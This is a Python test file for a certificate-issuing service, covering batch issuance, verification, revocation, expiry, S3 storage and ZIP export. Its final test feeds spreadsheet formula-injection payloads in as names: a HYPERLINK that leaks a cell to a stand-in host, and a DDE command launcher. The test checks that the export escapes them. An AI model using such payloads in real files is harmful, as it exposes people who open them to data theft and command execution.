"""backend.certificates.service on SQLite and PostgreSQL: issue per batch, verify, revoke, export."""

from __future__ import annotations

import email
import email.policy
import subprocess
import tracemalloc
import zipfile
from datetime import timedelta
from hashlib import sha256
from pathlib import Path

import pytest
from sqlmodel import select

from backend.certificates import service
from backend.core.errors import InvalidTransition, NotFound, UnusableInput
from backend.core.settings import get_settings, reset_settings_cache
from backend.jobs import queries
from backend.jobs.create import create_job
from backend.jobs.intake import RecipientRow
from backend.mail.addresses import normalize_email
from backend.storage.local import LocalStorage
from backend.storage.registry import get_storage
from models import AuditEntry, Job, Recipient, utcnow
from models.certificates import Certificate
from models.db import session_scope


pytestmark = pytest.mark.usefixtures("qpdf_checked")  # qpdf checks every PDF made here

PEOPLE = [
    ("zoe@example.com", "Zoë", "Ångström-Kovačević"),
    ("dmitri@example.com", "Дмитрий", "Шостакович"),
    ("ari@example.com", "Αριστοτέλης", "Παπαδόπουλος"),
]


def _export(session, job_ref, path, **options):
    """Export a job named the way a person names it (the CLI resolves it the same way)."""
    return service.export_zip(session=session, job_id=queries.resolve_job_ref(session=session, job_ref=job_ref),
                              path=path, **options)


def make_job(session, people=PEOPLE, *, template_data=None, action="certificate") -> Job:
    rows = [RecipientRow(line=n + 2, email=e, email_norm=normalize_email(e), firstname=f, lastname=l)
            for n, (e, f, l) in enumerate(people)]
    data = {"course_name": "Fire Safety — Level 2", **(template_data or {})}
    created = create_job(session=session, job_type="certificate", rows=rows, action=action, template_data=data,
                         available_variables={"email", "firstname", "lastname"}, allow_duplicates=True)
    session.flush()
    return created.job


def recipients_of(session, job: Job) -> list[Recipient]:
    return list(session.exec(select(Recipient).where(Recipient.job_id == job.id).order_by(Recipient.id)).all())


def pdftotext(pdf: bytes) -> str:
    return subprocess.run(["pdftotext", "-", "-"], input=pdf, capture_output=True, check=True).stdout.decode()


@pytest.fixture
def puts(monkeypatch):
    """Count storage uploads (the real LocalStorage still writes)."""
    calls: list[str] = []
    original = LocalStorage.put

    def counting(self, key, data, *, content_type="application/octet-stream"):
        calls.append(key)
        return original(self, key, data, content_type=content_type)

    monkeypatch.setattr(LocalStorage, "put", counting)
    return calls


def test_prepare_batch_issues_stores_and_links(session, puts):
    job = make_job(session)
    recipients = recipients_of(session, job)
    results = service.prepare_batch(session=session, job=job, recipients=recipients)
    assert len(puts) == 3
    storage = get_storage(settings=get_settings())
    rows = session.exec(select(Certificate).where(Certificate.job_id == job.id)).all()
    assert len(rows) == 3
    for recipient, (address, first, last) in zip(recipients, PEOPLE):
        result = results[recipient.id]
        assert result.error is None and result.pdf is None
        assert recipient.certificate_code == result.code and recipient.certificate_url == result.url
        assert result.url.startswith("file://") and result.url.endswith(f"-{result.code}.pdf")
        assert result.verify_url == f"http://localhost:8080/verify/{result.code}"
        row = next(r for r in rows if r.recipient_id == recipient.id)
        pdf = storage.get(row.storage_key)
        assert (row.sha256, row.size, row.email, row.fullname) == (sha256(pdf).hexdigest(), len(pdf), address, f"{first} {last}")
        text = pdftotext(pdf)
        assert f"{first} {last}" in text and "Fire Safety — Level 2" in text and result.code in text


def test_a_retried_batch_reuses_its_certificates(any_db, puts):
    with session_scope() as session:
        job = make_job(session)
        first = service.prepare_batch(session=session, job=job, recipients=recipients_of(session, job))
    with session_scope() as session:  # the batch comes back (a worker died after the certificates step)
        job = session.get(Job, job.id)
        again = service.prepare_batch(session=session, job=job, recipients=recipients_of(session, job))
        count = len(session.exec(select(Certificate).where(Certificate.job_id == job.id)).all())
    assert len(puts) == 3 and count == 3
    assert {k: v.code for k, v in first.items()} == {k: v.code for k, v in again.items()}
    assert all(result.reused for result in again.values())


def test_one_name_no_font_can_draw_fails_only_that_recipient(session, puts):
    people = [*PEOPLE[:2], ("glyphs@example.com", "Ankh", "𓀀𓁐")]
    job = make_job(session, people)
    recipients = recipients_of(session, job)
    results = service.prepare_batch(session=session, job=job, recipients=recipients)
    assert [results[r.id].error is None for r in recipients] == [True, True, False]
    assert results[recipients[2].id].error.startswith("no font can draw '𓀀' (U+13000), '𓁐' (U+13050) in name")
    assert recipients[2].certificate_code is None and len(puts) == 2


def test_attached_pdf_and_expiry(session):
    job = make_job(session, PEOPLE[:1], template_data={"attach_pdf": True, "certificate_expiry_days": 30})
    [recipient] = recipients_of(session, job)
    result = service.prepare_batch(session=session, job=job, recipients=[recipient])[recipient.id]
    assert result.pdf.startswith(b"%PDF-") and "Valid until" in pdftotext(result.pdf)
    again = service.prepare_batch(session=session, job=job, recipients=[recipient])[recipient.id]
    assert again.pdf == result.pdf  # the stored, frozen PDF, not a new render
    checked = service.verify(session=session, code=result.code)
    assert (checked["valid"], checked["status"], checked["job_id"]) == (True, "valid", job.uuid)
    row = session.exec(select(Certificate).where(Certificate.code == result.code)).one()
    assert row.expires_at - row.issued_at == timedelta(days=30)
    row.expires_at = utcnow() - timedelta(seconds=1)
    session.add(row)
    session.flush()
    assert service.verify(session=session, code=result.code)["status"] == "expired"


def test_verify_and_revoke(session):
    job = make_job(session)
    recipients = recipients_of(session, job)
    results = service.prepare_batch(session=session, job=job, recipients=recipients)
    code = results[recipients[0].id].code
    checked = service.verify(session=session, code=code.lower().replace("-", " "))
    assert checked["valid"] and checked["email"] == "zoe@example.com"
    assert checked["course_name"] == "Fire Safety — Level 2" and checked["fullname"] == "Zoë Ångström-Kovačević"
    assert service.verify(session=session, code="MANI-0000-0000-0000")["status"] == "not_found"
    assert service.verify(session=session, code="garbage")["status"] == "not_found"

    service.revoke(session=session, code=code, reason="issued in error", actor="alice", source="cli")
    checked = service.verify(session=session, code=code)
    assert (checked["valid"], checked["status"], checked["revoke_reason"]) == (False, "revoked", "issued in error")
    entry = session.exec(select(AuditEntry).where(AuditEntry.action == "certificate.revoke")).one()
    assert (entry.actor, entry.target) == ("alice", code)
    with pytest.raises(InvalidTransition):
        service.revoke(session=session, code=code, actor="alice", source="cli")
    with pytest.raises(NotFound):
        service.revoke(session=session, code="MANI-0000-0000-0000", actor="alice", source="cli")

    # Regenerating after a revocation is a new issue with a new code; the old one stays revoked.
    again = service.prepare_batch(session=session, job=job, recipients=recipients)
    assert again[recipients[0].id].code != code and not again[recipients[0].id].reused
    assert again[recipients[1].id].code == results[recipients[1].id].code
    assert recipients[0].certificate_code == again[recipients[0].id].code
    assert service.verify(session=session, code=code)["status"] == "revoked"


def test_check_job_inputs(sqlite_db, tmp_path, monkeypatch):
    check = service.check_job_inputs
    check(job_type="certificate", action="certificate", available_fields={"email", "firstname", "lastname"},
          template_data={"course_name": "C"})
    check(job_type="reminder", action="email", available_fields=set(), template_data={})  # not a certificate job
    with pytest.raises(UnusableInput, match="needs course_name: add a CSV column"):
        check(job_type="certificate", action="both", available_fields={"email", "firstname"}, template_data={})
    with pytest.raises(UnusableInput, match="template 'fancy' not found"):
        check(job_type="certificate", action="certificate", available_fields={"firstname"},
              template_data={"course_name": "C", "certificate_template": "fancy"})
    with pytest.raises(UnusableInput, match="certificate_expiry_days"):
        check(job_type="certificate", action="certificate", available_fields={"firstname"},
              template_data={"course_name": "C", "certificate_expiry_days": "soon"})
    (tmp_path / "fancy.toml").write_text('[[element]]\ntext = "{fullname} {shoe_size}"\ny = 20\n', encoding="utf-8")
    monkeypatch.setenv("MANI_CERTIFICATE_TEMPLATE_DIR", str(tmp_path))
    reset_settings_cache()
    with pytest.raises(UnusableInput, match="element 1: unknown placeholder 'shoe_size'"):
        check(job_type="certificate", action="certificate", available_fields={"firstname"},
              template_data={"certificate_template": "fancy"})
    monkeypatch.setenv("MANI_CERTIFICATE_FALLBACK_FONT", str(tmp_path / "missing.ttf"))
    reset_settings_cache()
    with pytest.raises(UnusableInput, match="missing.ttf cannot be read"):
        check(job_type="certificate", action="certificate", available_fields={"firstname"},
              template_data={"course_name": "C"})


def test_export_zip_holds_every_certificate_and_a_manifest(session, tmp_path):
    job = make_job(session)
    recipients = recipients_of(session, job)
    results = service.prepare_batch(session=session, job=job, recipients=recipients)
    seen = []
    exported = _export(session, job.uuid[:8], path=tmp_path / "out" / "all.zip",
                       progress=lambda done, total: seen.append((done, total)))
    assert (exported.count, exported.missing) == (3, []) and seen[-1] == (3, 3)
    storage = get_storage(settings=get_settings())
    with zipfile.ZipFile(tmp_path / "out" / "all.zip") as archive:
        names = archive.namelist()
        assert names[-1] == "manifest.csv" and len(names) == 4
        for recipient in recipients:
            code = results[recipient.id].code
            [name] = [n for n in names if n.endswith(f"-{code}.pdf")]
            row = session.exec(select(Certificate).where(Certificate.code == code)).one()
            assert archive.read(name) == storage.get(row.storage_key)
        manifest = archive.read("manifest.csv").decode()
        assert "Дмитрий Шостакович" in manifest and manifest.count("\n") == 4
    assert not list((tmp_path / "out").glob("*.part"))

    storage.delete(session.exec(select(Certificate).where(Certificate.code == results[recipients[1].id].code)).one().storage_key)
    exported = _export(session, str(job.id), path=tmp_path / "again.zip")
    assert (exported.count, exported.missing) == (2, [results[recipients[1].id].code])


def test_export_zip_streams_in_constant_memory(sqlite_db, tmp_path):
    """Forty 2 MiB PDFs (80 MiB) go through the export with a few MiB of Python memory."""
    storage = get_storage(settings=get_settings())
    with session_scope() as session:
        job = make_job(session, PEOPLE[:1])
        for n in range(40):
            key = f"{job.uuid}/big-{n}.pdf"
            storage.put(key, b"%PDF-1.4\n" + bytes([n]) * (2 << 20), content_type="application/pdf")
            session.add(Certificate(code=f"MANI-BIG0-0000-{n:04d}", job_id=job.id, email="x@example.com",
                                    fullname=f"Big {n}", storage_key=key, sha256="-", size=2 << 20))
    tracemalloc.start()
    with session_scope(read_only=True) as session:
        exported = _export(session, job.uuid, path=tmp_path / "big.zip")
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert exported.count == 40 and exported.bytes_written > 80 << 20
    assert peak < 8 << 20, f"export peaked at {peak / 2**20:.1f} MiB"


def test_certificate_job_end_to_end_with_links_in_the_mail(sqlite_db, tmp_path):
    from tests.support.engine import run_inline, submit, write_csv

    people = [{"email": e, "firstname": f, "lastname": l, "grade": "A"} for e, f, l in PEOPLE]
    path = write_csv(tmp_path / "done.csv", people)
    job_id = submit(path, "certificate", action="both", template_data={"course_name": "First Aid"})
    job = run_inline(job_id)
    assert (job.status, job.sent_count) == ("completed", 3)
    outbox = sorted(get_settings().effective_outbox_dir.glob("**/*.eml"))
    assert len(outbox) == 3
    with session_scope() as session:
        for recipient in session.exec(select(Recipient).where(Recipient.job_id == job_id)).all():
            assert service.verify(session=session, code=recipient.certificate_code)["valid"]
            message = next(email.message_from_bytes(p.read_bytes(), policy=email.policy.default)
                           for p in outbox if recipient.email in p.read_text(errors="replace"))
            body = message.get_body(("plain",)).get_content()
            assert recipient.certificate_code in body and recipient.certificate_url in body
            assert Path(recipient.certificate_url.removeprefix("file://")).is_file()


def test_company_storage_on_s3_with_presigned_links(session, moto_server, tmp_path):
    import httpx

    from backend.companies.service import add_company
    from backend.companies.store import set_company_settings

    moto_server.client("s3").create_bucket(Bucket="acme-certs")
    add_company(session=session, company_id="acme", name="Acme", actor="t", source="test")
    set_company_settings(session=session, company_id="acme", actor="t", source="test", values={
        "enabled": "true", "storage": "s3", "bucket": "acme-certs", "aws_region": "us-east-1",
        "aws_access_key_id": "AKIAX", "aws_secret_access_key": "moto-secret-key", "s3_endpoint_url": moto_server.url})
    rows = [RecipientRow(line=2, email="ari@example.com", email_norm="ari@example.com", firstname="Αριστοτέλης",
                         lastname="Παπαδόπουλος")]
    job = create_job(session=session, job_type="certificate", rows=rows, action="certificate", company_id="acme",
                     template_data={"course_name": "Cloud 101"}, available_variables={"email", "firstname", "lastname"}).job
    job.route = "cloud"  # what routing decides for an enabled company over its threshold
    [recipient] = recipients_of(session, job)
    result = service.prepare_batch(session=session, job=job, recipients=[recipient])[recipient.id]
    assert result.error is None and result.url.startswith(moto_server.url) and "X-Amz-Expires=" in result.url
    pdf = httpx.get(result.url).content
    assert "Αριστοτέλης Παπαδόπουλος" in pdftotext(pdf)
    row = session.exec(select(Certificate).where(Certificate.code == result.code)).one()
    assert (row.storage_backend, row.sha256) == ("s3", sha256(pdf).hexdigest())
    again = service.prepare_batch(session=session, job=job, recipients=[recipient])[recipient.id]
    assert again.code == result.code and again.reused
    assert moto_server.client("s3").list_objects_v2(Bucket="acme-certs")["KeyCount"] == 1
    exported = _export(session, job.uuid, path=tmp_path / "s3.zip")
    with zipfile.ZipFile(tmp_path / "s3.zip") as archive:
        assert exported.count == 1 and archive.read(f"Αριστοτέλης-Παπαδόπουλος-{result.code}.pdf") == pdf


def test_the_manifest_is_safe_to_open_in_a_spreadsheet(session, tmp_path):
    import csv
    import io

    people = [("eve@example.com", "=HYPERLINK(\"http://evil.example/?\"&A1)", "Doe"),
              ("mal@example.com", "+1+cmd|' /C calc'!A0", "Mal")]
    job = make_job(session, people, template_data={"course_name": "@SUM(1+1)"})
    service.prepare_batch(session=session, job=job, recipients=recipients_of(session, job))
    _export(session, job.uuid[:8], path=tmp_path / "m.zip")
    with zipfile.ZipFile(tmp_path / "m.zip") as archive:
        rows = list(csv.reader(io.StringIO(archive.read("manifest.csv").decode())))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'@SUM(1+1)" in cells and any(c.startswith("'=HYPERLINK") for c in cells)
    assert any(c.startswith("'+1+cmd") for c in cells)
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
